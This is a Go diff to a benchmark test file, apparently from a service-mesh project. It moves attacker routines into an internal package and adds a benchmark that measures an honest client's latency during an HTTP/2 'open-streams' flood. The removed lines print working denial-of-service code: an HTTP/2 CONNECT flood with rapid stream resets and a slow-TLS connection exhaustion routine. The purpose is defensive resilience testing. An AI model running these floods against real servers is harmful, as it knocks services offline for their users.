@@ -22,10 +22,10 @@ import (
 	"time"
 
 	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 	"golang.org/x/sys/unix"
 
 	"github.com/gozt/gozt/identity"
+	"github.com/gozt/gozt/internal/attack"
 )
 
 // BenchmarkVictimUnderAttackNodes is BenchmarkVictimUnderAttack (hbone) end to end: an
@@ -172,11 +172,13 @@ func TestNodeAttackerProcess(t *testing.T) {
 			}
 		})
 	case "connect-flood":
-		run(4, func() { h2Flood(addr, dst, cfg, time.Millisecond, false, stop, &ops) })
+		run(4, func() { attack.H2Flood(addr, dst, cfg, time.Millisecond, false, stop, &ops) })
 	case "rapid-reset":
-		run(4, func() { h2Flood(addr, dst, cfg, 0, true, stop, &ops) })
+		run(4, func() { attack.H2Flood(addr, dst, cfg, 0, true, stop, &ops) })
+	case "open-streams":
+		run(4, func() { attack.H2Flood(addr, dst, cfg, 0, false, stop, &ops) })
 	case "stalled-tls":
-		run(1, func() { stalledTLS(addr, cfg, 2000, stop, &ops) })
+		run(1, func() { attack.StalledTLS(addr, cfg, 2000, stop, &ops) })
 	default:
 		t.Fatalf("unknown attack %q", name)
 	}
@@ -190,100 +192,6 @@ func TestNodeAttackerProcess(t *testing.T) {
 	close(stop)
 	wg.Wait()
 	fmt.Printf("ops/s %g\n", float64(n)/time.Since(start).Seconds())
-}
-
-// h2Flood keeps one mTLS HTTP/2 connection to addr sending CONNECT dst, one per every
-// (0: as fast as it can), each followed by RST_STREAM with reset; it never reads. When the
-// node closes the connection it opens another.
-func h2Flood(addr, dst string, cfg *tls.Config, every time.Duration, reset bool, stop <-chan struct{}, ops *atomic.Int64) {
-	for {
-		select {
-		case <-stop:
-			return
-		default:
-		}
-		tc, err := tls.Dial("tcp", addr, cfg)
-		if err != nil {
-			time.Sleep(10 * time.Millisecond) // refused: the node's answer
-			continue
-		}
-		context.AfterFunc(stopCtx(stop), func() { tc.Close() })
-		fr := http2.NewFramer(tc, tc)
-		var hbuf bytes.Buffer
-		enc := hpack.NewEncoder(&hbuf)
-		if _, err := tc.Write([]byte(http2.ClientPreface)); err != nil || fr.WriteSettings() != nil {
-			tc.Close()
-			continue
-		}
-		next := time.Now()
-		for id := uint32(1); id < 1<<31; id += 2 {
-			if every > 0 {
-				next = next.Add(every)
-				time.Sleep(time.Until(next))
-			}
-			hbuf.Reset()
-			enc.WriteField(hpack.HeaderField{Name: ":method", Value: "CONNECT"})
-			enc.WriteField(hpack.HeaderField{Name: ":authority", Value: dst})
-			if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndHeaders: true}) != nil {
-				break
-			}
-			if reset && fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
-				break
-			}
-			ops.Add(1)
-		}
-		tc.Close()
-	}
-}
-
-// stalledTLS holds up to hold TCP connections to addr open, each having sent a
-// ClientHello and nothing more; past hold, one is replaced every millisecond.
-func stalledTLS(addr string, cfg *tls.Config, hold int, stop <-chan struct{}, ops *atomic.Int64) {
-	hello := firstFlight(cfg)
-	var open []net.Conn
-	defer func() {
-		for _, c := range open {
-			c.Close()
-		}
-	}()
-	for {
-		select {
-		case <-stop:
-			return
-		default:
-		}
-		if len(open) == hold {
-			time.Sleep(time.Millisecond)
-			open[0].Close()
-			open = open[1:]
-		}
-		c, err := net.DialTimeout("tcp", addr, time.Second)
-		if err != nil {
-			continue
-		}
-		c.Write(hello)
-		open = append(open, c)
-		ops.Add(1)
-	}
-}
-
-// firstFlight is a TLS client's ClientHello record with cfg.
-func firstFlight(cfg *tls.Config) []byte {
-	a, b := net.Pipe()
-	defer a.Close()
-	defer b.Close()
-	go tls.Client(a, cfg).Handshake()
-	hdr := make([]byte, 5)
-	io.ReadFull(b, hdr)
-	body := make([]byte, int(hdr[3])<<8|int(hdr[4]))
-	io.ReadFull(b, body)
-	return append(hdr, body...)
-}
-
-func stopCtx(stop <-chan struct{}) context.Context {
-	ctx, cancel := context.WithCancel(context.Background())
-	go func() { <-stop; cancel() }()
-	return ctx
 }
 
 // nodeAttacker is an attacker process started by startNodeAttacker.
@@ -336,4 +244,59 @@ func (a *nodeAttacker) stop(b *testing.B) float64 {
 		b.Fatalf("attacker: %v", err)
 	}
 	return rate
+}
+
+// BenchmarkVictimOpenStreams measures the open-streams flood of issue 50 end to end: an
+// honest client makes paced 1 KiB round trips (victimRate a second) through node A →
+// HBONE → node B → an echo backend on one long-lived connection, while an attacker
+// process opens CONNECT streams to the live backend on 4 mTLS connections as fast as it
+// can, never reading a byte, and reconnects as node B closes each. Each round makes b.N
+// round trips (-benchtime 3000x: 6 s a round): none, open-streams, none-again.
+// It reports the victim's p50 and p99, p99 as a ratio to none, the attack's CONNECTs a
+// second, the most goroutines this process had, and the p99 of the Go scheduler's
+// latency (how long runnable goroutines waited) over the round.
+func BenchmarkVictimOpenStreams(b *testing.B) {
+	m := startMesh(b)
+	be := startBackend(b, m.serverIP+":0", echo)
+	target := net.JoinHostPort(m.serverIP, strconv.Itoa(int(be.port())))
+	certPEM := attackerPEM(b, m)
+	var noneP99 time.Duration
+	for _, name := range []string{"none", "open-streams", "none-again"} {
+		b.Run(name, func(b *testing.B) {
+			victim, code, err := socksConnect(m.a.socks(b), m.serverIP, be.port())
+			if err != nil {
+				b.Fatalf("victim: socks5 code %d: %v", code, err)
+			}
+			defer victim.Close()
+			var a *nodeAttacker
+			if name == "open-streams" {
+				a = startNodeAttacker(b, name, m.serverIP+":15008", target, certPEM)
+			}
+			v, err := attack.RoundTrips(victim, b.N, victimRate, 1024)
+			if err != nil {
+				b.Fatal(err)
+			}
+			if a != nil {
+				b.ReportMetric(a.stop(b), "attack-ops/s")
+			}
+			if name == "none" {
+				noneP99 = v.P99
+			}
+			reportVictim(b, v, noneP99)
+		})
+	}
+}
+
+// victimRate is the honest client's pace: round trips a second.
+const victimRate = 500
+
+// reportVictim reports what the victim saw, its p99 also as a ratio to baseP99 (if set).
+func reportVictim(b *testing.B, v attack.Victim, baseP99 time.Duration) {
+	b.ReportMetric(float64(v.P50.Microseconds()), "p50-µs")
+	b.ReportMetric(float64(v.P99.Microseconds()), "p99-µs")
+	if baseP99 > 0 {
+		b.ReportMetric(float64(v.P99)/float64(baseP99), "p99/none")
+	}
+	b.ReportMetric(float64(v.SchedP99.Microseconds()), "sched-p99-µs")
+	b.ReportMetric(float64(v.Goroutines), "max-goroutines")
 }
